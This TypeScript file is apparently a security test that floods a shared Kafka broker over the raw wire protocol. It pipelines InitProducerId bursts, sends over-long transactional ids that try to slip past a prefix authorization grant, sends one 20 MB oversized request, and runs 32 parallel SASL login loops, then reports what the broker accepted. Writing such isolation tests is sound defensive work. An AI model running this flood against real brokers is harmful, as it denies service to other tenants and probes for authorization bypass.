// Attack: exhaust the shared broker from inside one attempt's own grants, for ~20 s, over the raw
// Kafka protocol (pipelined, no client library holding it back):
//  - InitProducerId on the granted transactional id (and idempotent ones), as fast as it goes;
//  - over-long transactional ids (250 B to 4 MB), and one request over the broker's size bound;
//  - a connection + SASL login loop, 32 at a time.
// It prints RESULT with what the broker accepted; `allowed` is true if any over-long id got past
// the authorizer.
import net from 'node:net';

const DURATION_MS = Number('__DURATION_MS__');
const [host, port] = process.env.KAFKA_BROKERS!.split(',')[0]!.split(':') as [string, string];
const user = process.env.KAFKA_SASL_USERNAME!;
const password = process.env.KAFKA_SASL_PASSWORD!;
// TRANSACTIONAL_ID is one id, or "i1: id, i2: id" for several instances: take the first.
const txnId = process.env.TRANSACTIONAL_ID!.split(',')[0]!.replace(/^i\d+: /, '').trim();
const until = Date.now() + DURATION_MS;

const counts = { initAccepted: 0, initRefused: 0, initOther: 0, longAccepted: 0, longRefused: 0, longClosed: 0, loginsOk: 0, loginsRefused: 0, connectErrors: 0 };

const str16 = (s: string) => {
  const b = Buffer.from(s, 'utf8');
  const len = Buffer.alloc(2);
  len.writeInt16BE(b.length);
  return Buffer.concat([len, b]);
};
function uvarint(n: number): Buffer {
  const out: number[] = [];
  while (n >= 0x80) {
    out.push((n & 0x7f) | 0x80);
    n = Math.floor(n / 128);
  }
  out.push(n);
  return Buffer.from(out);
}

/** One authenticated connection; send() resolves with each response body (after the correlation id). */
class Conn {
  private socket: net.Socket;
  private buf = Buffer.alloc(0);
  private corr = 0;
  private pending = new Map<number, (body: Buffer) => void>();
  closed = false;
  private onClose: Array<() => void> = [];

  constructor() {
    this.socket = net.connect({ host, port: Number(port) });
    this.socket.on('data', (chunk: Buffer) => this.read(chunk));
    this.socket.on('error', () => {});
    this.socket.on('close', () => {
      this.closed = true;
      for (const cb of this.onClose) cb();
      for (const [, reject] of this.pending) reject(Buffer.alloc(0));
      this.pending.clear();
    });
  }

  closedPromise(): Promise<void> {
    return this.closed ? Promise.resolve() : new Promise((resolve) => this.onClose.push(resolve));
  }

  private read(chunk: Buffer): void {
    this.buf = Buffer.concat([this.buf, chunk]);
    while (this.buf.length >= 4) {
      const size = this.buf.readInt32BE(0);
      if (this.buf.length < 4 + size) return;
      const frame = this.buf.subarray(4, 4 + size);
      this.buf = this.buf.subarray(4 + size);
      const cb = this.pending.get(frame.readInt32BE(0));
      this.pending.delete(frame.readInt32BE(0));
      cb?.(frame.subarray(4));
    }
  }

  send(apiKey: number, version: number, body: Buffer, flexible = false): Promise<Buffer> {
    const corr = ++this.corr;
    const head = Buffer.alloc(8);
    head.writeInt16BE(apiKey, 0);
    head.writeInt16BE(version, 2);
    head.writeInt32BE(corr, 4);
    const parts = [head, str16('flood'), ...(flexible ? [Buffer.from([0])] : []), body];
    const size = Buffer.alloc(4);
    size.writeInt32BE(parts.reduce((n, p) => n + p.length, 0));
    return new Promise((resolve) => {
      if (this.closed) return resolve(Buffer.alloc(0));
      this.pending.set(corr, resolve);
      this.socket.write(Buffer.concat([size, ...parts]));
    });
  }

  /** SaslHandshake v1 + SaslAuthenticate v1 (PLAIN): true when the broker let us in. */
  async login(): Promise<boolean> {
    const hs = await this.send(17, 1, str16('PLAIN'));
    if (hs.length < 2 || hs.readInt16BE(0) !== 0) return false;
    const token = Buffer.from(`\0${user}\0${password}`, 'utf8');
    const len = Buffer.alloc(4);
    len.writeInt32BE(token.length);
    const auth = await this.send(36, 1, Buffer.concat([len, token]));
    return auth.length >= 2 && auth.readInt16BE(0) === 0;
  }

  /** InitProducerId v3 (flexible): the error code, or -1 when the connection closed instead. */
  async initProducerId(id: string | Buffer | null): Promise<number> {
    const name = id === null ? null : Buffer.isBuffer(id) ? id : Buffer.from(id, 'utf8');
    const fixed = Buffer.alloc(4 + 8 + 2 + 1);
    fixed.writeInt32BE(60_000, 0);
    fixed.writeBigInt64BE(-1n, 4);
    fixed.writeInt16BE(-1, 12);
    const body = Buffer.concat([name === null ? uvarint(0) : uvarint(name.length + 1), ...(name ? [name] : []), fixed]);
    const res = await this.send(22, 3, body, true);
    // Response header v1: correlation id (already cut) + tagged fields; then throttle_time_ms, error_code.
    return res.length >= 7 ? res.readInt16BE(5) : -1;
  }

  close(): void {
    this.socket.destroy();
  }
}

const TXN_ID_AUTHORIZATION_FAILED = 53;
const CLUSTER_AUTHORIZATION_FAILED = 31;

async function floodInits(): Promise<void> {
  while (Date.now() < until) {
    const conn = new Conn();
    if (!(await conn.login())) {
      conn.close();
      await new Promise((r) => setTimeout(r, 50));
      continue;
    }
    while (Date.now() < until && !conn.closed) {
      const batch = Array.from({ length: 64 }, (_, i) => conn.initProducerId(i % 8 === 7 ? null : txnId));
      for (const code of await Promise.all(batch)) {
        if (code === TXN_ID_AUTHORIZATION_FAILED || code === CLUSTER_AUTHORIZATION_FAILED) counts.initRefused++;
        else if (code === 0 || code === 51 /* CONCURRENT_TRANSACTIONS: reached the coordinator */) counts.initAccepted++;
        else counts.initOther++;
      }
    }
    conn.close();
  }
}

async function floodLongIds(): Promise<void> {
  // Over the bound, just under Kafka's own 32,767-byte string limit, and far over it.
  const sizes = [250, 30_000, 4 * 1024 * 1024];
  const ids = sizes.map((n) => Buffer.alloc(n, `${txnId}-`.charAt(0)));
  while (Date.now() < until) {
    const conn = new Conn();
    if (!(await conn.login())) {
      conn.close();
      await new Promise((r) => setTimeout(r, 100));
      continue;
    }
    while (Date.now() < until && !conn.closed) {
      // Ids that start with the granted one, so a prefix grant would match them.
      const codes = await Promise.all(ids.map((id) => conn.initProducerId(Buffer.concat([Buffer.from(txnId), id]))));
      for (const code of codes) {
        if (code === TXN_ID_AUTHORIZATION_FAILED) counts.longRefused++;
        else if (code === -1) counts.longClosed++;
        else counts.longAccepted++;
      }
    }
    conn.close();
  }
  // One request over the broker's size bound: the broker must drop it, not buffer it.
  const conn = new Conn();
  if (await conn.login()) {
    const code = await Promise.race([conn.initProducerId(Buffer.alloc(20 * 1024 * 1024, 'x')), conn.closedPromise().then(() => -1)]);
    if (code === -1) counts.longClosed++;
    else if (code === TXN_ID_AUTHORIZATION_FAILED) counts.longRefused++;
    else counts.longAccepted++;
  }
  conn.close();
}

async function floodLogins(): Promise<void> {
  const worker = async () => {
    while (Date.now() < until) {
      const conn = new Conn();
      try {
        if (await conn.login()) counts.loginsOk++;
        else counts.loginsRefused++;
      } catch {
        counts.connectErrors++;
      }
      conn.close();
    }
  };
  await Promise.all(Array.from({ length: 32 }, worker));
}

await Promise.all([floodInits(), floodInits(), floodLongIds(), floodLogins()]);
console.log('RESULT ' + JSON.stringify({ allowed: counts.longAccepted > 0, ...counts }));
await new Promise(() => {}); // stay up until the test stops the run
